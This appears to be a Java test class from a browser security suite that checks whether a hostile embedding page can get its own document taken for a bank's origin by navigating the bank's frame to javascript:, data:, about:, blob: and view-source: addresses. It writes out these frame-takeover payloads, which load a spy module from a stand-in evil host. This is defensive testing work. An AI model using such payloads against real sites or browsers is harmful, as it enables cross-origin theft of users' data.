package dev.skerry.security;

import dev.skerry.origin.ConsoleMessage;
import dev.skerry.origin.Page;
import dev.skerry.origin.PageHost;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * A page that embeds the bank navigates the bank's frame to addresses with a document in them, in the hope that what is
 * there counts as the bank: {@code javascript:}, {@code data:}, {@code about:} and {@code blob:}. The control leads to
 * a document that the bank itself serves.
 */
final class FrameTakeover implements Attack {

  private static final String BANK = "bank.localhost";
  private static final String EVIL = "evil.localhost";
  private static final String FORGED = "the secret of the forger";

  @Override
  public Card card() {
    return new Card("frame-takeover", Target.PAGE,
        "have a document of one's own in another origin's frame be taken for that origin",
        Invariant.NOTHING_IS_LEARNT,
        "the origin of a document is its URL's or its creator's (HTML 7.1.1), and scripts in URLs are not run",
        AttackClass.FRAMES_AND_MESSAGES);
  }

  @Override
  public Outcome run(Setting setting) throws Exception {
    List<String> reached = new ArrayList<>();
    List<String> stopped = new ArrayList<>();
    try (Sites sites = new Sites(); PageHost host = setting.newHost().build()) {
      String upload = Spy.page(FORGED, "*", "<script type=module src=" + sites.origin(EVIL) + "/spy.wasm></script>");
      sites.wasm(EVIL, "/spy.wasm", Spy.module("the module of the spy..."), "*")
          .wasm(EVIL, "/navigator.wasm", Guests.bytes("frame-navigator"), null)
          .answer(BANK, "/upload", 200, Map.of("Content-Type", "text/html"), upload)
          .html(BANK, "/", Spy.page("the secret of the bank", "*", "<script type=module src='" + sites.origin(EVIL)
              + "/spy.wasm'></script>"));
      List<String> addresses = setting.isDown() ? List.of(sites.origin(BANK) + "/upload")
          : List.of("javascript:\"" + upload.replace("\"", "'") + "\"", "data:text/html," + upload,
              "about:srcdoc", "about:blank", "blob:" + sites.origin(BANK) + "/00000000-0000-4000-8000-000000000000",
              "view-source:" + sites.origin(BANK) + "/upload");
      for (String address : addresses) {
        String origin = originOfForged(host, sites, address);
        (origin.equals(sites.origin(BANK)) ? reached : stopped).add(address.substring(0, address.indexOf(':') + 1)
            + " came as " + (origin.isEmpty() ? "nothing" : origin));
      }
      return new Outcome(!reached.isEmpty(), "reached " + reached + ", stopped " + stopped);
    }
  }

  /** The origin that the forger's message came from in the end; empty if there was none. */
  private static String originOfForged(PageHost host, Sites sites, String address) throws Exception {
    sites.html(EVIL, "/", "<!doctype html><body data-first='" + sites.origin(BANK) + "/' data-to=\""
        + address.replace("&", "&amp;").replace("\"", "&quot;")
        + "\"><script type=module src=/navigator.wasm></script><iframe></iframe>");
    try (Page page = host.open(sites.origin(EVIL) + "/")) {
      if (!page.settle(Observer.PATIENCE)) {
        throw new IllegalStateException("the page does not settle");
      }
      List<String> lines = page.console().stream().filter(line -> line.origin().equals(sites.origin(EVIL)))
          .map(ConsoleMessage::text).toList();
      if (lines.stream().noneMatch(line -> line.startsWith("the secret of the bank|"))) {
        throw new IllegalStateException("the bank was never there: " + lines + " " + page.problems());
      }
      return lines.stream().filter(line -> line.startsWith(FORGED)).map(line -> line.substring(FORGED.length() + 1))
          .reduce("", (first, last) -> last);
    }
  }
}
